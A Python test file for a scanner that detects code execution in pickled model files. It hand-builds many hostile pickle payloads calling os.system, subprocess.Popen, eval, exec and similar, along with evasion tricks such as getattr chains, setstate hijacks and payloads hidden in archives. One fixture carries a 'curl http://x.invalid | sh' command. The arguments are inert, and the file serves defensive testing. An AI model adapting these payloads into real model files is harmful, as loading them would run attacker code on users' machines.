"""The check finds what loading would run, and leaves what models are made of alone.

Payloads are inert (`true`, `'x'`) and never loaded.
"""

from __future__ import annotations

import argparse
import array
import collections
import datetime
import decimal
import functools
import gzip
import ipaddress
import itertools
import logging
import math
import operator
import pathlib
import pickle
import random
import re
import textwrap
import uuid
import zlib
from collections.abc import Callable
from typing import Any

import numpy as np
import pytest
from hypothesis import given, settings
from tests.formats.test_pickle_machine import soup
from tests.strategies import hostile, npy_file, torch_zip, values, zip_file

from basanite.domain.answer import Answer
from basanite.domain.outcome import Outcome
from basanite.domain.severity import Confidence, Severity

Ask = Callable[..., Answer]
CHECK = "pickle-code-execution"
EVIL = b"cos\nsystem\n(S'true'\ntR."


def made(module: str, name: str, arguments: bytes = b"S'x'\n\x85", after: bytes = b"R.") -> bytes:
    """A pickle that calls ``module.name``, put together by hand."""
    return f"c{module}\n{name}\n".encode() + arguments + after


CLOSED = {
    "os": made("os", "system"),
    "posix": made("posix", "system"),
    "nt": made("nt", "popen"),
    "subprocess": made("subprocess", "Popen"),
    "subprocess made only": made("subprocess", "Popen", b")", b"\x81."),
    "eval": made("builtins", "eval"),
    "exec of Python 2": made("__builtin__", "execfile"),
    "import": made("builtins", "__import__"),
    "getattr reaching into os": b"cbuiltins\ngetattr\ncos\nS'system'\n\x86R.".replace(
        b"cos\n", b"cos\npath\n"
    ),
    "pty": made("pty", "spawn"),
    "runpy": made("runpy", "run_path"),
    "webbrowser": made("webbrowser", "open"),
    "imaplib": made("imaplib", "IMAP4"),
    "asyncio": made("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    "operator": made("operator", "attrgetter"),
    "methodcaller": made("operator", "methodcaller"),
    "marshal": made("marshal", "loads"),
    "pickle in pickle": made("pickle", "loads"),
    "code type": made("types", "CodeType"),
    "pip": made("pip", "main"),
    "torch load": made("torch", "load"),
    "numpy run": made("numpy.testing._private.utils", "runstring"),
    "third party reaching os": b"\x80\x04\x8c\x05torch\x8c\x16serialization.os.popen\x93"
    b"S'x'\n\x85R.",
    "six": made("six.moves.builtins", "eval"),
    "dill": made("dill._dill", "_create_function"),
    "codec other than latin": b"c_codecs\nencode\nS'x'\nS'rot13'\n\x86R.",
    "partial of a command": b"cfunctools\npartial\ncos\nsystem\n\x85R.",
    "factory that runs": b"ccollections\ndefaultdict\ncos\ngetcwd\n\x85R.",
    "closed thing handed over": b"ccollections\nOrderedDict\ncos\nsystem\n\x85R.",
    "reconstructor of closed": b"ccopyreg\n_reconstructor\ncsubprocess\nPopen\n"
    b"cbuiltins\nobject\nN\x87R.",
    "array of a foreign type": b"cnumpy.core.multiarray\n_reconstruct\ncos\nsystem\n\x85R.",
    "path changed": b"csys\npath\n(S'x'\ne.",
    "environment changed": b"cos\nenviron\nS'a'\nS'b'\ns.",
    "state of a module's thing": b"csys\nmodules\n}b.",
    "name worked out": b"\x80\x04cbuiltins\nstr\nS'os'\n\x85RS'system'\n\x93S'x'\n\x85R.",
    "setstate trick": b"csklearn.svm\nSVC\n)\x81}S'__setstate__'\ncos\nsystem\nsbS'x'\nb.",
    "old class": b"(S'true'\nios\nsystem\n.",
    "broken afterwards": EVIL[:-1] + b"\xff\xff",
    "cut afterwards": EVIL[:-1],
    "second pickle": pickle.dumps({"a": 1}) + EVIL,
    "hidden behind": pickle.dumps(collections.OrderedDict(a=1)) + EVIL,
    "extension code": b"\x80\x02\x82\x07)R.",
    "object from outside": b"S'x'\nQ)R.",
    "result called": b"csklearn.svm\nSVC\n)\x81)R.",
    "method of what was built": b"cbuiltins\ngetattr\ncpandas.core.frame\nDataFrame\n)\x81"
    b"S'query'\n\x86RS'x'\n\x85R.",
    "class changed": b"csklearn.svm\nSVC\n}S'fit'\nNsb.",
    "class changed by slots": b"csklearn.svm\nSVC\nN}S'fit'\nNs\x86b.",
    "setstate of something unknown": b"csklearn.svm\nSVC\n)\x81}S'__setstate__'\ncwater\nx\nsb.",
    "setstate in a literal dictionary": b"(S'__setstate__'\ncwater\nx\nd.",
    "class made by type": b"cbuiltins\ntype\nS'X'\n)}\x87R.",
    "iterator that calls": b"cbuiltins\niter\ncwater\nx\nK\x01\x86R.",
    "reduction": b"cfunctools\nreduce\ncoperator\nadd\n(K\x01K\x02t\x86R.",
    "module taken out": b"coperator\ngetitem\ncsys\nmodules\nS'os'\n\x86R.",
    "rebuilt by getattr": b"ctorch._tensor\n_rebuild_from_type_v2\n(cbuiltins\ngetattr\n"
    b"ctorch\nTensor\n)NtR.",
    "file opened by a known class": made("joblib.memory", "MemoryStore"),
    "named for what it does": made("water.tools", "run_command"),
    "module with a space": made("os ", "system"),
    "module of another alphabet": b"\x80\x04\x8c\x04\xef\xbd\x8fs\x8c\x06system\x93)R.",
    "module without a name": b"\x80\x04\x8c\x00\x8c\x06system\x93)R.",
    "test support": made("test.support", "run_code"),
    "tensor with a command": b"\x80\x04ctorch.storage\n_load_from_bytes\n"
    b"B\x1a\x00\x00\x00" + EVIL.ljust(26) + b"\x85R.",
    "program of a package": made("torch.__main__", "x"),
    "tensor whose bytes come from elsewhere": b"\x80\x04B\x1a\x00\x00\x00"
    + EVIL.ljust(26)
    + b"\x940ctorch.storage\n_load_from_bytes\nh\x00\x85R.",
    "function named by a text": made("water.tools", "locate", b"S'os.system'\n\x85"),
    "function named by two texts": made("water.tools", "find", b"S'os'\nS'system'\n\x86"),
    "code handed over": made("water.tools", "go", b"S'__import__(1)'\n\x85"),
    "command handed over": made("water.tools", "go", b"S'curl http://x.invalid | sh'\n\x85"),
    "code for a known class": made("sklearn.svm", "SVC", b"S'import os; os.popen(1)'\n\x85"),
    "address for a known class": made("xgboost", "DMatrix", b"S'http://x.invalid/a'\n\x85"),
    "module of numpy's own importer": made(
        "numpy.core", "_ufunc_reconstruct", b"S'os'\nS'getpid'\n\x86"
    ),
    "file opened by an unknown package": made("water.files", "load"),
    "shell of an unknown package": made("water.tools", "ShellTool"),
    "weights fetched": made("transformers", "AutoModel.from_pretrained"),
    "memory filled by a number": b"cbuiltins\nbytearray\nJ\xff\xff\xff\x7f\x85R.",
    "memory filled by counting": b"cbuiltins\nlist\ncitertools\ncount\n)R\x85R.",
    "dialog of Python 2": made("tkFileDialog", "askopenfile"),
    "tensor in an archive": b"\x80\x04ctorch.storage\n_load_from_bytes\n"
    b"B\x05\x00\x00\x00PK\x03\x04x\x85R.",
}

HELD = {
    "command": b"cos\nsystem\n.",
    "command in a transformer": b"csklearn.preprocessing\nFunctionTransformer\n)\x81"
    b"}S'func'\ncos\nsystem\nsb.",
    "loader": b"]cnumpy\nload\na.",
    "getattr": b"]cbuiltins\ngetattr\na.",
    "getattr, though also called": b"](cbuiltins\ngetattr\nq\x00cwater\nM\nS'x'\n\x86Rh\x00e.",
    "partial": b"cfunctools\npartial\ncos\nsystem\n\x85R.",
    "name worked out": b"\x80\x04cbuiltins\nstr\nS'os'\n\x85RS'system'\n\x93.",
    "shell of an unknown package": b"]cwater.tools\nrun_shell\na.",
    "named arguments": b"\x80\x04csklearn.svm\nSVC\n)}S'k'\ncos\nsystem\ns\x92.",
    "dropped": b"cos\nsystem\n0N.",
    "before it breaks": b"cos\nsystem\n\xff",
}


@pytest.mark.parametrize("name", sorted(CLOSED))
def test_a_call_of_something_closed_fails_with_high_confidence(ask: Ask, name: str) -> None:
    answer = ask(CHECK, CLOSED[name], "model.pkl")

    assert answer.outcome is Outcome.FAILED, answer
    worst = answer.findings[0]
    assert worst.level in (Severity.HIGH, Severity.CRITICAL)
    assert worst.confidence in (Confidence.HIGH, Confidence.MEDIUM)
    assert worst.location.path == "model.pkl"
    assert worst.location.offset is not None


@pytest.mark.parametrize("name", sorted(HELD))
def test_what_is_closed_fails_also_when_it_is_only_kept(ask: Ask, name: str) -> None:
    answer = ask(CHECK, HELD[name], "model.pkl")

    assert answer.outcome is Outcome.FAILED, answer
    assert answer.findings[0].level.rank >= Severity.HIGH.rank


def test_the_worst_finding_tells_in_order_what_would_run(ask: Ask) -> None:
    data = (
        b"\x80\x04cbuiltins\nstr.join\nS''\n(S'o'\nS's'\nt\x86R\x8c\x06system\x93S'true'\n\x85R"
        b"0csys\npath\nS'/x'\na."
    )
    answer = ask(CHECK, data, "model.pkl")

    assert answer.findings[0].message == (
        "Loading it calls os.system (a name worked out while loading) with ('true'): it would run "
        "a command or change files. In order: 1. import builtins.str.join; "
        "2. call builtins.str.join('', ('o', 's')); 3. import os.system; "
        "4. call os.system('true'); "
        "5. import sys.path; 6. change sys.path: APPEND ('/x'); 7. keep sys.path for later."
    )


def test_the_finding_says_in_plain_words_what_would_run(ask: Ask) -> None:
    finding = ask(CHECK, EVIL, "model.pkl").findings[0]

    assert finding.message == (
        "Loading it calls os.system with ('true'): it would run a command or change files."
    )
    assert finding.location.offset == len(EVIL) - 2
    assert finding.level is Severity.CRITICAL


WRAPPED = {
    "pytorch archive": torch_zip(EVIL),
    "pytorch archive, packed": torch_zip(EVIL, packed=True),
    "zip, other name": zip_file({"readme.txt": EVIL}),
    "zip in zip": zip_file({"inner.zip": zip_file({"m.pkl": EVIL})}),
    "zip in stored zip": zip_file({"inner.zip": zip_file({"m.pkl": EVIL})}, packed=False),
    "npz": zip_file({"a.npy": npy_file(), "b.npy": npy_file("'|O'", "(1,)", EVIL)}),
    "npy": npy_file("'|O'", "(1,)", EVIL),
    "behind an array": npy_file() + EVIL,
    "in the second array": npy_file() + npy_file("'|O'", "(1,)", EVIL),
    "gzip": gzip.compress(EVIL),
    "gzip, wrong checksum": gzip.compress(EVIL)[:-8] + b"\x00" * 8,
    "zlib": zlib.compress(EVIL),
}


@pytest.mark.parametrize("name", sorted(WRAPPED))
@pytest.mark.parametrize("path", ["model.bin", "notes.txt"])
def test_wrapping_and_renaming_do_not_hide_it(ask: Ask, name: str, path: str) -> None:
    answer = ask(CHECK, WRAPPED[name], path)

    assert answer.outcome is Outcome.FAILED, answer
    assert answer.findings[0].location.path.startswith(path)


def test_a_member_is_named_by_its_place(ask: Ask) -> None:
    data = zip_file({"a/inner.zip": zip_file({"m\n.pkl": EVIL})})

    assert ask(CHECK, data, "o.zip").findings[0].location.path == "o.zip!/a/inner.zip!/m%0A.pkl"


BENIGN: dict[str, Any] = {
    "plain": {"a": [1, 2.5, "x", b"y", None, True, {3}, frozenset([4]), (5,)]},
    "collections": [
        collections.OrderedDict(a=1), collections.Counter("aab"), collections.deque([1]),
        collections.defaultdict(list, a=[1]), collections.defaultdict(int),
    ],
    "dates": [datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC), datetime.date(2020, 1, 1),
              datetime.timedelta(3), datetime.time(1)],
    "numbers": [decimal.Decimal("1.5"), complex(1, 2), uuid.UUID(int=5), range(5), slice(1, 2)],
    "paths": pathlib.PurePosixPath("/a/b"),
    "namespace": argparse.Namespace(lr=0.1),
    "array": array.array("d", [1, 2]),
    "bytes": [bytearray(b"abc"), b"\xff" * 300],
    "arrays": [np.arange(5), np.zeros((3, 2), order="F"), np.array(["a", "b"]),
               np.array([1, None], dtype=object), np.array([(1, 2.0)], dtype="i4,f8")],
    "scalars": [np.float64(1.5), np.int32(3), np.str_("x"), np.bool_(True),
                np.datetime64("2020-01-01")],
    "dtypes": [np.dtype("f8"), np.dtype([("a", "i4"), ("b", "U5")])],
    "masked": np.ma.masked_array([1, 2], [True, False]),
    "random state": np.random.RandomState(3),
    "generator": np.random.default_rng(3),
    "chance": random.Random(1),
    "functions": [math.log, len, str.lower, operator.itemgetter(1), np.log1p, np.add, re.sub,
                  functools.partial(np.percentile, q=5), functools.partial(round, ndigits=2)],
    "bound": [random.Random(1).random, "abc".upper, {}.get],
    "types": [int, type(None), list[int], int | None, Any],
    "patterns": re.compile("a+"),
    "iterators": [itertools.count(5), iter([1]), enumerate([1]), reversed([1])],
    "addresses": ipaddress.ip_network("10.0.0.0/8"),
    "errors": [ValueError("x"), UserWarning("y")],
    "logger": logging.getLogger("plant"),
    "words that are special elsewhere": {"__reduce__": "text", "__class__": "name"},
}  # fmt: skip


@pytest.mark.parametrize("protocol", range(6))
@pytest.mark.parametrize("name", sorted(BENIGN))
def test_real_pickles_of_data_pass(ask: Ask, name: str, protocol: int) -> None:
    answer = ask(CHECK, pickle.dumps(BENIGN[name], protocol), "model.pkl")

    assert answer.outcome is Outcome.PASSED, answer
    assert answer.findings == ()


def test_real_scikit_learn_models_pass(ask: Ask) -> None:
    ensemble = pytest.importorskip("sklearn.ensemble")
    linear = pytest.importorskip("sklearn.linear_model")

    x, y = np.random.default_rng(0).normal(size=(50, 3)), np.arange(50) % 2
    for model in (linear.LogisticRegression(), ensemble.RandomForestClassifier(n_estimators=3)):
        answer = ask(CHECK, pickle.dumps(model.fit(x, y)), "model.pkl")
        assert answer.outcome is Outcome.PASSED, answer


def torch_tensor() -> bytes:
    """The pickle of a state dictionary as PyTorch writes it, by hand."""
    storage = b"(S'storage'\nctorch\nFloatStorage\nS'0'\nS'cpu'\nK\x04tQ"
    tensor = b"ctorch._utils\n_rebuild_tensor_v2\n(" + storage + b"K\x00K\x04\x85K\x01\x85\x89"
    tensor += b"ccollections\nOrderedDict\n)RtR"
    return b"\x80\x02ccollections\nOrderedDict\n)R(S'w'\n" + tensor + b"u."


def test_state_dictionaries_of_pytorch_pass(ask: Ask) -> None:
    assert ask(CHECK, torch_zip(torch_tensor()), "model.pt").outcome is Outcome.PASSED


FAMILIES = {
    "time series": made("tslearn.svm.svm", "TimeSeriesSVC", b")", b"\x81}b."),
    "survival": made("sksurv.tree.tree", "SurvivalTree", b")", b"\x81}b."),
    "a figure": made("matplotlib.figure", "Figure", b")", b"\x81}b."),
    "callbacks of a figure": made("matplotlib.cbook", "CallbackRegistry", b")", b"\x81}b."),
    "a pattern of regex": made(
        "regex._regex", "compile", b"(S'a'\nI8224\nC\x02ab}}}]I0\n)I0\nI0\nt"
    ),
    "flags of regex": made("regex._regex_core", "RegexFlag", b"I256\n\x85"),
    "a shape on a map": made("shapely.io", "from_wkb", b"C\x02ab\x85"),
    "documents of a search index": made(
        "langchain_core.documents.base", "Document", b")", b"\x81}b."
    ),
    "scaling of a loss": made("deepspeed.runtime.fp16.loss_scaler", "LossScaler", b")", b"\x81}b."),
    "a body": made("chumpy.ch", "Ch", b")", b"\x81}b."),
    "words of Keras before version 3": made(
        "keras_preprocessing.text", "Tokenizer", b")", b"\x81}b."
    ),
    "a projection": made("pyproj.crs.crs", "CRS", b"S'EPSG:4326'\n\x85"),
}


@pytest.mark.parametrize("name", sorted(FAMILIES))
def test_models_and_data_of_known_packages_pass(ask: Ask, name: str) -> None:
    answer = ask(CHECK, FAMILIES[name], "model.pkl")

    assert answer.outcome is Outcome.PASSED, answer


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("matplotlib.texmanager", "TexManager"),
        ("deepspeed.launcher.runner", "main"),
        ("fairseq.hub_utils", "from_pretrained"),
        ("langchain_community.utilities.python", "run"),
        ("faiss", "read_index"),
    ],
)
def test_what_loads_or_runs_in_such_a_package_stays_closed(
    ask: Ask, module: str, name: str
) -> None:
    answer = ask(CHECK, made(module, name), "model.pkl")

    assert answer.outcome is Outcome.FAILED


UNKNOWN = {
    "call": made("water.models", "Forecast"),
    "made": made("water.models", "Forecast", b")", b"\x81."),
    "protocol 1 class": b"ccopyreg\n_reconstructor\ncwater.models\nForecast\n"
    b"cbuiltins\nobject\nN\x87R.",
    "function of a known package": made("sklearn.svm", "bounds"),
    "attribute of an unknown class, called": b"cbuiltins\ngetattr\ncwater\nModel\n"
    b"S'make'\n\x86R)R.",
    "partial of something unknown": b"cfunctools\npartial\ncwater\nforecast\n\x85R)R.",
    "tensor inside a plain pickle": made("torch.storage", "_load_from_bytes"),
    "model inside bytes": made("keras.src.saving", "KerasSaveable._unpickle_model"),
    "data in the arguments": made("water.models", "load_from_bytes"),
    "main": made("__main__", "Net", b")", b"\x81."),
}


@pytest.mark.parametrize("name", sorted(UNKNOWN))
def test_a_call_of_something_unknown_leaves_it_undecided(ask: Ask, name: str) -> None:
    answer = ask(CHECK, UNKNOWN[name], "model.pkl")

    assert answer.outcome is Outcome.UNDECIDED, answer
    assert answer.reason
    assert answer.findings[0].level.rank <= Severity.MEDIUM.rank


@pytest.mark.parametrize("name", ["call", "made", "protocol 1 class"])
def test_a_site_can_vouch_for_its_own_class(ask: Ask, name: str) -> None:
    answer = ask(CHECK, UNKNOWN[name], "model.pkl", allow=["water.models.Forecast"])

    assert answer.outcome is Outcome.PASSED, answer


def test_nobody_can_vouch_for_something_closed(ask: Ask) -> None:
    answer = ask(CHECK, EVIL, "model.pkl", allow=["os.system"])

    assert answer.outcome is Outcome.FAILED


def test_what_is_only_held_is_a_low_finding(ask: Ask) -> None:
    answer = ask(CHECK, b"cwater.models\nforecast\n.", "model.pkl")

    assert answer.outcome is Outcome.PASSED
    assert [each.level for each in answer.findings] == [Severity.LOW]
    assert ask(CHECK, b"cnumpy\nfloat32\n.", "m.pkl").outcome is Outcome.PASSED


@pytest.mark.parametrize(
    "data",
    [
        pickle.dumps([1] * 100)[:-1],
        b"\x80\x04]\xff",
        b"not a pickle at all, whatever the name says",
        torch_zip(b"\x80\x02}"),
        zip_file({"a.pkl": b"\x80\x02}"}),
    ],
)
def test_what_cannot_be_followed_is_incomplete_never_passed(ask: Ask, data: bytes) -> None:
    answer = ask(CHECK, data, "model.pkl")

    assert answer.outcome is Outcome.INCOMPLETE
    assert answer.reason


def test_tensors_inside_plain_pickles_are_followed(ask: Ask) -> None:
    """As PyTorch writes them: the older format, five pickles and raw storages, in bytes."""
    parts = (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True})
    inner = b"".join(pickle.dumps(each, 2) for each in parts) + torch_tensor()
    inner += pickle.dumps(["0"], 2) + bytes(8 + 16)
    data = b"\x80\x04]ctorch.storage\n_load_from_bytes\nB"
    data += len(inner).to_bytes(4, "little") + inner + b"\x85RaK\x01a."

    assert ask(CHECK, data, "model.pkl").outcome is Outcome.PASSED


@pytest.mark.parametrize(("inner", "outcome"), [(EVIL, "failed"), (pickle.dumps([1]), "passed")])
def test_tensors_that_protocol_2_writes_as_text_are_followed_too(
    ask: Ask, inner: bytes, outcome: str
) -> None:
    text = (inner + b"\xff" * 600).decode("latin-1").encode()
    data = b"\x80\x02ctorch.storage\n_load_from_bytes\nc_codecs\nencode\nX"
    data += len(text).to_bytes(4, "little") + text + b"X\x06\0\0\0latin1\x86R\x85R."

    assert ask(CHECK, data, "model.pkl").outcome.value == outcome


def test_classes_of_the_older_torch_format_stand_in_persistent_ids(ask: Ask) -> None:
    module = b"(S'module'\nctorch.nn.modules.linear\nLinear\nS'linear.py'\nS'class'\ntQ"
    evil = module.replace(b"torch.nn.modules.linear\nLinear", b"subprocess\nPopen")

    assert ask(CHECK, b"\x80\x02" + module + b")\x81}b.", "m.pt").outcome is Outcome.PASSED
    assert ask(CHECK, b"\x80\x02" + evil + b")\x81}b.", "m.pt").outcome is Outcome.FAILED


@pytest.mark.parametrize(
    ("head", "tail"),
    [
        (b"c_codecs\nencode\n", b"S'x'\n\x86R."),
        (b"c_codecs\nencode\nS'x'\n", b"\x86R."),
        (b"cbuiltins\nstr.join\nS''\n", b"\x86R."),
        (b"cbuiltins\ngetattr\ncwater\nx\n", b"\x86R."),
        (b"\x80\x04", b"2\x93)R."),
    ],
)
def test_a_pickle_of_tuples_within_tuples_is_answered_at_once(
    ask: Ask, head: bytes, tail: bytes
) -> None:
    """Whoever compared, hashed or showed such a tuple would never come to an end."""
    bomb = head + b")" + b"2\x86" * 5000 + tail

    assert ask(CHECK, bomb, "m.pkl").outcome is Outcome.FAILED


def test_opcodes_in_any_order_always_get_an_answer_and_never_an_error(ask: Ask) -> None:
    @settings(max_examples=150, deadline=None)
    @given(soup())
    def check(data: bytes) -> None:
        answer = ask(CHECK, data, "m.pkl")
        assert answer.outcome is not Outcome.ERROR, answer.reason

    check()


def test_archives_without_pickles_are_not_its_business(ask: Ask) -> None:
    assert ask(CHECK, zip_file({"a.txt": b"hi"}), "a.zip").outcome is Outcome.NOT_APPLICABLE
    assert ask(CHECK, npy_file(), "a.npy").outcome is Outcome.NOT_APPLICABLE


def test_an_archive_member_that_cannot_be_opened_is_incomplete(ask: Ask) -> None:
    data = bytearray(zip_file({"data.pkl": pickle.dumps({"a": "b" * 500})}))
    directory = data.index(b"PK\x01\x02")
    data[directory + 10] = 97

    assert ask(CHECK, bytes(data), "m.pt").outcome is Outcome.INCOMPLETE


def test_an_archive_bomb_is_incomplete_not_a_crash(ask: Ask) -> None:
    inner = zip_file({"a.pkl": EVIL})
    for _ in range(6):
        inner = zip_file({"a.zip": inner})

    answer = ask(CHECK, inner, "m.zip")
    assert answer.outcome is Outcome.INCOMPLETE
    assert "nested" in answer.reason


def test_thousands_of_equal_calls_are_one_finding(ask: Ask) -> None:
    answer = ask(CHECK, (EVIL[:-1] + b"0") * 5000 + b"N.", "m.pkl")

    assert len(answer.findings) == 1


def test_names_in_findings_are_inert(ask: Ask) -> None:
    data = b"\x80\x04\x8c\x02os\x8c\x08\x1b[31msys\x93S'a\\x1b[0m\\n'\n\x85R."
    finding = ask(CHECK, data, "m.pkl").findings[0]

    assert "\x1b" not in finding.model_dump_json()
    assert "\\u001b" not in finding.model_dump_json()


def test_a_class_with_a_reduce_of_its_own_is_what_the_check_is_about(ask: Ask) -> None:
    """The everyday form of the attack, really made by the standard library (and never loaded)."""

    class Model:
        def __reduce__(self) -> Any:
            return functools.partial, (exec, "true")

    answer = ask(CHECK, pickle.dumps(Model()), "m.pkl")
    assert answer.outcome is Outcome.FAILED


def test_a_standard_class_that_no_model_needs_stays_closed(ask: Ask) -> None:
    assert ask(CHECK, pickle.dumps(textwrap.TextWrapper()), "m.pkl").outcome is Outcome.FAILED


def test_no_value_of_plain_data_ever_fails(ask: Ask) -> None:
    @settings(max_examples=100, deadline=None)
    @given(values)
    def check(value: Any) -> None:
        for protocol in (0, 2, 4):
            assert ask(CHECK, pickle.dumps(value, protocol), "m.pkl").outcome is Outcome.PASSED

    check()


@pytest.mark.parametrize("kind", ["pickle", "pickle-0", "zip", "torch", "npz"])
def test_bad_bytes_always_get_an_answer_and_never_an_error(ask: Ask, kind: str) -> None:
    @settings(max_examples=80, deadline=None)
    @given(hostile(kind))
    def check(data: bytes) -> None:
        answer = ask(CHECK, data, "m.pkl")
        assert answer.outcome is not Outcome.ERROR, answer.reason

    check()
